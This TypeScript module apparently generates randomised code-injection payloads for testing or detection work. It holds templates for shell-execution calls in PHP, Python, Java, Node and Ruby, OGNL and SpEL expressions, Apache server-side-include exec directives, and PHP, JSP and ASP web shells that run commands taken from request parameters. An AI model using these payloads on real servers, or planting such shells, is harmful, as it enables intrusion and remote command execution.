// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell and PHP syntax, not templates

import type { Random } from "../random.ts"
import { unixFile } from "./files.ts"
import { digits, type Grammar, hostName, identifier, oneOf } from "./grammar.ts"
import { unixLine } from "./unix-commands.ts"

/** Calls by which an interpreter hands a string to the shell. */
export function codeCall(random: Random): string {
  const line = unixLine(random)
  const mark = random.pick(["'", '"'])
  const call = oneOf(random, [
    (r) =>
      `${r.pick(["system", "exec", "shell_exec", "passthru", "popen", "proc_open"])}(${mark}${line}${mark})`,
    (r) =>
      `${r.pick(["", "__import__('os')."])}${r.pick(["os.system", "os.popen", "subprocess.call", "system"])}(${mark}${line}${mark})`,
    () => `Runtime.getRuntime().exec(${mark}${line}${mark})`,
    () => `require('child_process').${random.pick(["exec", "execSync"])}(${mark}${line}${mark})`,
    () => `<?php system(${mark}${line}${mark}); ?>`,
    () => `<?=\`${line}\`?>`,
    () => `{\${system(${mark}${line}${mark})}}`,
    () => `IO.popen(${mark}${line}${mark}).read`,
    () => `%x(${line})`,
    () => `%{(#a=@java.lang.Runtime@getRuntime().exec(${mark}${line}${mark}))}`,
    () => `T(java.lang.Runtime).getRuntime().exec(${mark}${line}${mark})`,
    () => `s=call_user_func_array&vars[0]=system&vars[1][]=${encodeURIComponent(line)}`,
    () => `@eval(system(${mark}${line}${mark}))`,
    () => `assert(${mark}system('id')${mark})`,
    () =>
      `new java.lang.ProcessBuilder(${mark}sh${mark},${mark}-c${mark},${mark}${line}${mark}).start()`,
    () => `open(${mark}|${line}${mark})`,
  ])
  return `${random.pick(["", "", ";", "');", '";', "${@", "|"])}${call}${random.pick(["", ";", ";//", "}", ";#"])}`
}

/** Directives of Apache's mod_include and their kin. */
export function serverSideInclude(random: Random): string {
  const gap = random.pick([" ", "", "  "])
  return oneOf(random, [
    (r) => `<!--#exec cmd="${unixLine(r)}"${gap}-->`,
    (r) => `<!--#exec cmd='${unixLine(r)}'${gap}-->`,
    (r) => `<!--#exec cgi="/cgi-bin/${identifier(r)}.cgi"${gap}-->`,
    (r) => `<!--#include ${r.pick(["virtual", "file"])}="${unixFile(r)}"${gap}-->`,
    (r) =>
      `<!--#${r.pick(["echo", "printenv", "config"])} var="${r.pick(["DOCUMENT_NAME", "DATE_LOCAL", "HTTP_USER_AGENT"])}"${gap}-->`,
    (r) => `<pre><!--#exec cmd="${unixLine(r)}"${gap}--></pre>`,
    (r) => `<esi:include src="http://${hostName(r)}/${identifier(r)}"/>`,
  ])
}

const SUPERGLOBAL: Grammar = (r) =>
  `$_${r.pick(["GET", "POST", "REQUEST", "COOKIE", "SERVER"])}[${r.pick(["'cmd'", "cmd", "'c'", '"x"', "0", "1"])}]`

/** Pages of code that an upload or an include would run. */
export function scriptTag(random: Random): string {
  const run = oneOf(random, [
    (r) =>
      `${r.pick(["system", "passthru", "exec", "shell_exec", "eval", "assert"])}(${SUPERGLOBAL(r)})`,
    (r) => `${r.pick(["system", "passthru", "shell_exec"])}('${unixLine(r)}')`,
    () => "phpinfo()",
    (r) => `echo ${r.pick(["md5", "sha1"])}('${identifier(r)}')`,
    (r) => `file_put_contents('${identifier(r)}.php',${SUPERGLOBAL(r)})`,
    (r) => `echo file_get_contents('${unixFile(r)}')`,
    (r) => `echo \`${unixLine(r)}\``,
    (r) =>
      `$f=fopen('${identifier(r)}.php','w');fwrite($f,base64_decode('${btoa(identifier(r))}'))`,
  ])
  return oneOf(random, [
    () => `<?php ${run}; ?>`,
    () => `<?php ${run};`,
    () => `<?php @${run};?>`,
    () => `<?=${run}?>`,
    () => `<? ${run} ?>`,
    () => `<script language="php">${run}</script>`,
    (r) => `<%@page import="java.io.*"%><% Runtime.getRuntime().exec("${unixLine(r)}"); %>`,
    (r) => `<% Runtime.getRuntime().exec(request.getParameter("${identifier(r)}")); %>`,
    (r) => `<% eval request("${identifier(r)}") %>`,
    (r) => `<%= \`${unixLine(r)}\` %>`,
    () =>
      `<% Set s = Server.CreateObject("WScript.Shell") : s.Exec("cmd /c ${random.pick(["dir", "whoami", "ver"])}") %>`,
  ])
}

/** Code that leaves a string which an interpreter evaluates. */
export function evaluatedCode(random: Random): string {
  const call = oneOf(random, [
    () => "phpinfo()",
    (r) => `print(md5(${digits(r, 5)}))`,
    (r) => `die(md5(${digits(r, 4)}))`,
    (r) => `system('${unixLine(r)}')`,
    (r) => `echo \`${unixLine(r)}\``,
    (r) => `eval(base64_decode('${btoa(`system('${identifier(r)}');`)}'))`,
    (r) => `eval(${SUPERGLOBAL(r)})`,
    (r) => `passthru(${SUPERGLOBAL(r)})`,
    (r) => `__import__('os').system('${unixLine(r)}')`,
    (r) => `exec("${unixLine(r)}")`,
    () => "eval(compile('for x in range(1):\\n import os','a','single'))",
    (r) => `require('child_process').execSync('${unixLine(r)}').toString()`,
  ])
  return oneOf(random, [
    () => `;${call};`,
    () => `';${call};//`,
    () => `";${call};//`,
    () => `');${call};//`,
    () => `'.${call}.'`,
    () => `".${call}."`,
    () => `\${@${call}}`,
    () => `{\${${call}}}`,
    () => `\${\${${call}}}`,
    () => `;${call}`,
    () => `${digits(random, 2)};${call};#`,
    () => `|${call}`,
  ])
}
